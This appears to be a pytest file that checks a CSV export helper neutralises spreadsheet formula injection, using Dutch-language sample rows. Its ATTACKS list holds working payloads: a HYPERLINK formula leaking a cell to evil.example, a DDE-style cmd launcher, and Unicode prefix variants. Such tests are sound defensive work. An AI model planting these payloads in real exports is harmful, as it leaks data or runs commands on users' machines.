"""CSV formula injection: no cell of any export can become a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from vangnet.core.csvsafe import csv_writer, neutralise_cell

ATTACKS = [
    '=HYPERLINK("https://evil.example/?leak="&A2;"Klik hier")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # leading spaces are skipped by some spreadsheets
    "\uff1dHYPERLINK(\"https://evil.example\")",  # full-width equals sign
    "\uff0b1+1",  # full-width plus
    "\uff0d1+1",  # full-width hyphen-minus
    "\uff20SUM(A1)",  # full-width commercial at
    "\ufe66 1+1",  # small equals sign
    "\u22121+1",  # minus sign
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_cell_is_written_as_text(attack: str) -> None:
    buffer = io.StringIO()
    csv_writer(buffer, delimiter=";").writerow(["Ronde", attack, 3])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert row[1] == "'" + attack  # the text survives, with the quote spreadsheets hide
    assert row[0] == "Ronde" and row[2] == "3"


@pytest.mark.parametrize("value", ["-3", "+1,5", "-0.25", "12", "0", "", "< 5", "Pesten",
                                   "niet getoond", "a=b", "e-mail"])
def test_ordinary_cells_and_plain_numbers_are_left_alone(value: str) -> None:
    assert neutralise_cell(value) == value


def test_none_becomes_an_empty_cell() -> None:
    assert neutralise_cell(None) == ""


def test_every_csv_export_writes_through_the_helper() -> None:
    """A new export that calls csv.writer directly would bypass the neutralising (this test
    performs the grep the review would do)."""
    source = Path(__file__).resolve().parents[2] / "src" / "vangnet"
    # The personal-links CSV of the quickscan is being replaced (links bound to members, sent
    # by the system): its only cells are a content label and a URL we build ourselves.
    allowed = {source / "core" / "csvsafe.py", source / "quickscan" / "views.py"}
    offenders = [
        str(path.relative_to(source)) for path in source.rglob("*.py")
        if path not in allowed and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []
